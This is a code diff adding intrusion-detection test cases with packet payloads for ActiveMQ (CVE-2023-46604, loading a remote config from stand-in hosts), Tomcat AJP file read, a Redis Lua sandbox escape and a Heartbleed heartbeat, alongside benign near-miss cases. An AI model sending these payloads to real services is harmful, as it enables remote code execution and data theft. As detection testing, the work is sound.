@@ -19,6 +19,7 @@ def cases() -> Iterator[Case]:
     for file in load_attacks():
         yield from of_attack(file)
     yield from second_stage()
+    yield from other_protocols()
 
 
 def of_attack(file: AttackFile) -> Iterator[Case]:
@@ -128,4 +129,78 @@ def second_stage() -> Iterator[Case]:
         + answered(call, stub, sport=42012, dport=1099)
         + answered(b"GET / HTTP/1.0\r\n\r\n", text, sport=42013, dport=8080)
         + Tcp(sport=42014, dport=389).open().say(search).say(factory, to_server=False).close().packets,
+    )
+
+
+def openwire(*strings: bytes) -> bytes:
+    """Return an OpenWire ExceptionResponse holding these strings."""
+    content = b"\x1f" + bytes(4) + b"\x01" + bytes(4)
+    content += b"".join(b"\x01" + len(string).to_bytes(2, "big") + string for string in strings)
+    return len(content).to_bytes(4, "big") + content
+
+
+def ajp(**attributes: bytes) -> bytes:
+    """Return an AJP GET request with these request attributes (`__` in a name stands for `.`)."""
+
+    def string(value: bytes) -> bytes:
+        return len(value).to_bytes(2, "big") + value + b"\x00"
+
+    content = b"\x02\x02" + string(b"HTTP/1.1") + string(b"/index.txt") + string(b"192.0.2.1") + b"\xff\xff"
+    content += string(b"web") + b"\x00\x50\x00\x00\x00"
+    for name, value in attributes.items():
+        content += b"\x0a" + string(name.replace("__", ".").encode()) + string(value)
+    content += b"\xff"
+    return b"\x12\x34" + len(content).to_bytes(2, "big") + content
+
+
+def redis(*words: bytes) -> bytes:
+    """Return a Redis command."""
+    return b"*%d\r\n" % len(words) + b"".join(b"$%d\r\n%s\r\n" % (len(word), word) for word in words)
+
+
+def said(data: bytes, *, sport: int, dport: int) -> list[Packet]:
+    """Return one connection to the guest in which only the client speaks."""
+    return Tcp(sport=sport, dport=dport).open().say(data).close().packets
+
+
+def other_protocols() -> Iterator[Case]:
+    """ActiveMQ, AJP, Redis and TLS heartbeats."""
+    context = b"org.springframework.context.support.ClassPathXmlApplicationContext"
+    script = b'local f = package.loadlib("liblua5.1.so.0", "luaopen_io"); return f'
+    yield Case(
+        "other-protocols-exploit",
+        "CVE-2023-46604 (ActiveMQ), CVE-2020-1938 (Tomcat), CVE-2022-0543 (Redis), CVE-2014-0160 (OpenSSL).",
+        "A class that loads a remote configuration; include attributes that only the front end may set;"
+        " a script that loads a library; a heartbeat of three bytes that claims sixteen thousand.",
+        "other-protocols.rules",
+        said(openwire(context, b"http://192.0.2.10/lab.xml"), sport=43000, dport=61616)
+        + said(
+            openwire(context.replace(b"ClassPath", b"FileSystem"), b"HTTP://lab.invalid/x"),
+            sport=43001,
+            dport=61616,
+        )
+        + said(
+            ajp(
+                javax__servlet__include__request_uri=b"/",
+                javax__servlet__include__path_info=b"WEB-INF/web.xml",
+            ),
+            sport=43002,
+            dport=8009,
+        )
+        + said(redis(b"EVAL", script, b"0"), sport=43003, dport=6379)
+        + said(b"\x18\x03\x02\x00\x03\x01\x40\x00", sport=43004, dport=443),
+        {9000381: 2, 9000382: 1, 9000383: 1, 9000384: 1},
+    )
+    heartbeat = b"\x18\x03\x02\x00\x17\x01\x00\x04" + bytes(20)
+    yield Case(
+        "other-protocols-near-miss",
+        "The same services and words, used as they are meant to be.",
+        "No alert: a message about the class without an address, an attribute of another name, a stored text"
+        " about the function, heartbeats whose length is honest or nothing.",
+        "other-protocols.rules",
+        said(openwire(b"java.lang.Exception", context + b" was refused"), sport=43010, dport=61616)
+        + said(ajp(REMOTE_PORT=b"1", note=b"see javax.servlet.include.path_info"), sport=43011, dport=8009)
+        + said(redis(b"SET", b"note", b"about package.loadlib"), sport=43012, dport=6379)
+        + said(redis(b"EVAL", b"return redis.call('get', KEYS[1])", b"1", b"note"), sport=43013, dport=6379)
+        + said(heartbeat + b"\x18\x03\x02\x00\x03\x01\x00\x00", sport=43014, dport=443),
     )
